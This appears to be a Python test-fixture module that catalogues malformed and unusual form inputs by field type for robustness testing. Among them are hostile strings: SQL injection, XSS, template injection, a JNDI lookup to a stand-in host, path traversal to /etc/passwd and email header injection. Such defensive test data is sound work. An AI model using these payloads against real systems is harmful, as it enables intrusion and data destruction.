"""What people and machines type that was not meant: classes of input, by the kind of field, each value with a name."""

FOREVER = "9999-12-31"

TEXT = {
    "empty": "",
    "blank": "  \t ",
    "unbreakable blank": "\u00a0\u2003",
    "invisible": "\u200b\u2060",
    "blank letters": "\u3164\u2800",
    "decomposed": "Zoe\u0308 uit Sao\u0303 Paulo",
    "emoji": "👩‍👩‍👧 prima 👍🏽",
    "turned round": "abc\u202egpj.exe",
    "isolate": "a\u2066b\u2069",
    "control": "a\x07b\x1b[31m",
    "nul": "a\x00b",
    "delete": "a\x7fb\u0085c",
    "no character": "a\ufffeb\U000effff",
    "half a pair": b"a\xed\xa0\x80b",
    "no utf-8": b"caf\xe9 \xff\xfe",
    "long": "x" * 3_000,
    "very long": "é" * 60_000,
    "many marks": "z" + "\u0301" * 900,
    "lines": "een\r\ntwee\rdrie\u2028vier",
    "header": "Jan\r\nBcc: iemand@demo.example\r\n\r\nGewonnen!",
    "sql": "'; DROP TABLE student; --",
    "sql or": "1' OR '1'='1",
    "pattern": "%_%\\",
    "template": "{{7*7}} ${7*7} {% raise %} #{7*7}",
    "format": "%(secret)s {0.__class__} %n%s",
    "html": '<b>x</b> & "y" &lt;',
    "script": "</textarea><script>alert(1)</script>",
    "attribute": "\" autofocus onfocus='alert(1)",
    "formula": '=HYPERLINK("http://x.example","y")',
    "log": 'x\n{"event": "made up"}',
    "lookup": "${jndi:ldap://x.example/a}",
    "path": "../../../../etc/passwd",
    "address": "javascript:alert(1)",
    "code word": "Null",
    "list": "[1, 2]",
}
NAMES = {  # of people who exist: to refuse one of these is a fault
    "particle": "van 't Hof",
    "apostrophe": "O'Brien",
    "curly apostrophe": "D\u2019Angelo",
    "hyphen": "El-Idrissi",
    "one letter": "Y",
    "other script": "李",
    "arabic": "محمد",
    "decomposed": "Zoe\u0308",
    "dotless": "Işık",
    "code word": "Null",
    "order": "Drop",
    "number word": "True",
    "long": "Wolfeschlegelsteinhausenbergerdorff",
    "initials": "J.R.",
    "with mark": "Ng\u0169g\u0129 wa Thiong'o",
}
EMAIL = {
    "no at": "jan.demo.example",
    "two": "jan@demo.example, piet@demo.example",
    "semicolon": "jan@demo.example;piet@demo.example",
    "line break": "jan@demo.example\r\nBcc: piet@demo.example",
    "spaces": "jan @demo.example",
    "brackets": "Jan <jan@demo.example>",
    "cyrillic": "j\u0430n@demo.example",
    "long": "a" * 250 + "@demo.example",
    "long domain": "jan@" + "a." * 200 + "example",
    "address literal": "jan@[127.0.0.1]",
    "quoted": '"jan jan"@demo.example',
    "dots": "jan..jan@demo.example",
}
DATE = {
    "no such day": "31-02-2027",
    "no leap year": "29-02-2027",
    "month 13": "2027-13-01",
    "two digits": "1-4-27",
    "american": "04/31/2027",
    "serial": "46000",
    "week": "2027-W05-3",
    "compact": "20270401",
    "with time": "2027-04-01T10:00",
    "year 9999": FOREVER,
    "year 0": "0000-01-01",
    "year 1": "0001-01-01",
    "negative": "-2027-04-01",
    "infinite": "infinity",
    "word": "morgen",
    "other digits": "\u0662\u0660\u0662\u0667-04-01",
    "long ago": "1899-12-31",
    "nul": "2027-04-01\x00",
}
NUMBER = {
    "negative": "-1",
    "huge": "99999999999999999999999",
    "int64": "9223372036854775808",
    "int32": "2147483648",
    "comma": "1,5",
    "point": "1.5",
    "thousands": "1.000.000",
    "exponent": "1e309",
    "not a number": "NaN",
    "infinite": "Infinity",
    "hex": "0x10",
    "octal": "010",
    "other digits": "\u0661\u0662",
    "superscript": "\u00b2",
    "underscore": "1_000",
    "plus": "+5",
    "blank inside": "1 0",
    "zero": "0",
    "nul": "1\x00",
    "words": "vijf",
    "digits": "9" * 5_000,
}
CODE = {
    "letters": "ABCDEFG",
    "lost zero": "1234567",
    "too many": "1234567890123",
    "unknown": "99999",
    "blanks": " 1 2 3 ",
    "other digits": "\u0661\u0660\u0661\u0661 AB",
    "postcode zero": "0000 AA",
    "postcode forbidden": "1011 SS",
    "postcode unknown": "9999 ZZ",
    "postcode foreign": "B-1000",
    "phone": "+00 000",
    "link": "javascript:alert(1)",
    "ftp": "ftp://x.example",
}
CHOICE = {
    "not offered": "iets-anders",
    "empty": "",
    "number": "999999",
    "huge number": "9" * 30,
    "nul": "a\x00",
    "list": "[]",
    "no utf-8": b"\xff\xfe",
}
HIDDEN = CHOICE | {"negative": "-1", "other digits": "\u0661", "sql": TEXT["sql"], "long": "x" * 3_000}
BY_WAY = {"date": DATE, "email": EMAIL | TEXT, "radio": CHOICE, "checkbox": CHOICE, "select": CHOICE, "hidden": HIDDEN}
NUMBERS = (
    "minutes",
    "days",
    "hours",
    "seats",
    "year",
    "age",
    "allowance",
    "euro",
    "weight",
    "share",
    "count",
    "percent",
)
CODES = ("postcode", "kvk", "branch", "brin", "crebo", "phone", "website", "code", "number")


def values_for(control):
    """The classes that make sense for a field: {name: value}."""
    if control.how in BY_WAY:
        return BY_WAY[control.how]
    if any(word in control.name for word in NUMBERS):
        return NUMBER | TEXT
    if any(word in control.name for word in CODES):
        return CODE | TEXT
    if control.how == "text" and ("_on" in control.name or "date" in control.name):
        return DATE | TEXT
    return TEXT
